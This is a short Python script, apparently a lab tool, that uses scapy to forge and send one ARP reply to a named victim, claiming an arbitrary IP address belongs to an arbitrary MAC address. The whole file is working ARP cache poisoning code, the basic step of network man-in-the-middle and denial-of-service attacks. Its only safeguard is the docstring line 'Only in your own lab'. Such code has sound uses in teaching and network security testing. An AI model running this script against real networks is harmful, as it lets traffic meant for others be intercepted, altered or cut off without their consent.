"""Send one ARP reply with any content. Only in your own lab.

forge.py CLAIMED_IP CLAIMED_MAC VICTIM_IP VICTIM_MAC
"""

import sys

from scapy.all import ARP, Ether, sendp

claimed_ip, claimed_mac, victim_ip, victim_mac = sys.argv[1:]
reply = ARP(op=2, psrc=claimed_ip, hwsrc=claimed_mac, pdst=victim_ip, hwdst=victim_mac)
sendp(Ether(src=claimed_mac, dst=victim_mac) / reply, iface="eth0", verbose=False)
